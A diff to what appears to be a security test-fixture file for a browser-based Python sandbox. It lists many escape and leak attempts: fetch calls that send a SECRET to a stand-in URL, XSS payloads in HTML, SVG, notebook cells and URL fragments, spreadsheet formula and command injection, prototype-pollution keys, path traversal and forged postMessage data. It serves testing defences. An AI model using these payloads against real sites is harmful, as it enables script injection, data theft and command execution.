@@ -1,13 +1,16 @@
-"""Ways by which a cell of code could tell somebody something, or change what is not its own.
+"""Ways by which something could tell somebody something, or change what is not its own.
 
-A line each: its name, and Python that would do it. URL is a file on another computer, SITE is
-the site's own folder, SECRET is what must not get anywhere.
+A line each. WAYS are those of a cell of code: a name, and Python that would do it. URL is a file
+on another computer, SITE is the site's own folder, SECRET is what must not get anywhere. Below
+stand those of names and texts in files, pictures, addresses, and other pages.
 
 Emscripten's own eval (``emscripten_run_script`` by ctypes) is not here: Python hangs after it, and
 nothing else could be tried.
 """
 
 from __future__ import annotations
+
+import json
 
 WAYS = {
     # requests to another computer
@@ -66,7 +69,9 @@ WAYS = {
     "the server's root": "await js.fetch('/' + SECRET)",
     "a property that all objects have": "await js.fetch(SITE + 'constructor')",
     # what lies on the device
-    "other projects": "js.indexedDB.open('zeichenlabor /')",
+    "other projects": "js.indexedDB.open('zeichenlabor ' + SITE[SITE.index('/', 8):])",
+    "another site's projects": "js.indexedDB.open('of another')",
+    "other projects, dug up": "js.IDBFactory.prototype.open.call(js.self, 'of another')",
     "the list of projects": "await js.indexedDB.databases()",
     "the site's copy": "await js.caches.open('zeichenlabor')",
     "cookies": "await js.cookieStore.set('a', SECRET)",
@@ -79,6 +84,118 @@ WAYS = {
     "a forged count": "js.postMessage(js.Object.fromEntries([['kind', 'requests'], "
     "['foreign', -5]]))",
     "a forged reply": "js.self.postMessage(js.Object.fromEntries([['kind', 'reply'], ['id', 1]]))",
+    "a page by the way to its starter": "js.self.parent.postMessage(SECRET)",
+    "a start that failed": "import asyncio; js.reportError(js.Error.new(SECRET)); "
+    "await asyncio.sleep(0.1); raise OSError('told on the console only')",
     "an end without a word": "js.close()",
     "an end without a word, dug up": "js.DedicatedWorkerGlobalScope.prototype.close.call(js.self)",
 }
+
+SECRET = "geheim"
+
+_TRY_ALL = """\
+import asyncio, js, json
+from pyodide.code import eval_code_async
+told = {{}}
+for name, way in {ways}.items():
+    names = dict(js=js, URL={url!r}, SITE={site!r}, SECRET={secret!r}, PORT={port})
+    try:
+        await asyncio.wait_for(eval_code_async(way, names), 5)
+        told[name] = "went through"
+    except BaseException as error:
+        told[name] = f"{{type(error).__name__}}: {{error}}"[:200]
+print("TOLD", json.dumps(told))
+"""
+
+
+def attempt(site: str, url: str) -> str:
+    """A cell that tries them all."""
+    port = int(url.rsplit(":", 1)[1].strip("/"))
+    return _TRY_ALL.format(
+        ways=json.dumps(WAYS), site=site, url=url + SECRET, secret=SECRET, port=port
+    )
+
+
+def notebook(source: str) -> bytes:
+    """The cell as a file of Jupyter, with what else could do harm in one."""
+    html = {"text/html": [f"<img src=x onerror={DEED}>"], "application/javascript": DEED}
+    cells = [
+        {"cell_type": "markdown", "source": f"<script>{DEED}</script>", "metadata": {}},
+        {"cell_type": "code", "source": source, "outputs": [{"data": html}], "metadata": {}},
+    ]
+    return json.dumps({"cells": cells, "nbformat": 4, "nbformat_minor": 5, "metadata": {}}).encode()
+
+
+# What a script would do that must not run; URL stands for a file on another computer.
+DEED = "window.hacked=1"
+
+TEXTS = {
+    "a picture's handler": f"<img src=x onerror={DEED}>",
+    "a picture from elsewhere": "<img src=URL>",
+    "a script": f"<script>{DEED}</script>",
+    "a script from elsewhere": "<script src=URL></script>",
+    "the end of a script": f"</script><script>{DEED}</script>",
+    "a comment that hides a script's end": "<!--<script>",
+    "the end of a style": "</style><link rel=icon href=URL>",
+    "the end of a text field": f"</textarea><svg onload={DEED}>",
+    "the end of a title": f"</title><svg/onload={DEED}>",
+    "the end of an attribute": f"\"' autofocus onfocus={DEED} x='",
+    "a template of JavaScript": f"`${{{DEED}}}`",
+    "the end of a line, for JavaScript": f"\u2028{DEED}\u2029//",
+    "the end of a string of Python": f'\'+str(1/0)+"""{DEED}',
+    "a backslash": "\\",
+    "an address that is a script": f"javascript:{DEED}",
+    "a picture of a style": "url(URL)",
+    "a style that fetches": "red;background:url(URL)",
+    "a picture in Markdown": "![](URL)",
+    "a formula": '=HYPERLINK("URL")',
+    "a formula in disguise": '\t+IMPORTXML("URL","/a")',
+    "a command of a spreadsheet": "=cmd|' /c calc'!A0",
+    "a name that objects have": "__proto__",
+    "a place for something else": "{file} {script} {0}",
+    "a path": "../../../index.html",
+    "an entity": "&lt;img src=x&gt;&#0;",
+    "another direction": "\u202ephp.gpj",
+}
+
+
+def texts(url: str) -> list[str]:
+    return [text.replace("URL", url + SECRET) for text in TEXTS.values()]
+
+
+def picture(url: str) -> bytes:
+    """A picture that is a document."""
+    url += SECRET
+    return f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink"
+      width="60" height="60" onload="{DEED}"><script>parent.{DEED}</script><script x:href="{url}"/>
+      <style>@import url({url}); rect {{ fill: url({url}#a) }}</style><image x:href="{url}"
+      width="9" height="9"/><use href="{url}#a"/><foreignObject width="9" height="9"><iframe
+      xmlns="http://www.w3.org/1999/xhtml" src="{url}"/></foreignObject><rect width="60"
+      height="30"/></svg>""".encode()
+
+
+# Behind the site's own address.
+ADDRESSES = {
+    "markup": f"#learn/<img src=x onerror={DEED}>",
+    "a script": f"#learn/javascript:{DEED}",
+    "what objects have": "#__proto__",
+    "what objects have, in a step": "#learn/constructor",
+    "what objects have, deeper": "#learn/__proto__/toString",
+    "what cannot be decoded": "#code/%E0%A4%A",
+    "a path": "#learn/../../..//",
+    "very much": "#learn/" + "a" * 100_000,
+    "another start": f"?start=<script>{DEED}</script>&language=<b>#collect",
+    "another start's place": "?start=__proto__&packages=//URL#train",
+}
+
+# What another page says to this one, in the words that its own parts use.
+MESSAGES = [
+    {"kind": "requests", "foreign": -5, "own": -5},
+    {"kind": "boot", "state": "failed", "error": {"code": "boot/python", "params": {}}},
+    {"kind": "reply", "id": 1, "result": {}},
+    {"state": "update"},
+    {"type": "wanted", "id": ""},
+    {"type": "step/opened", "step": "code", "place": ""},
+    "take over",
+    "",
+]
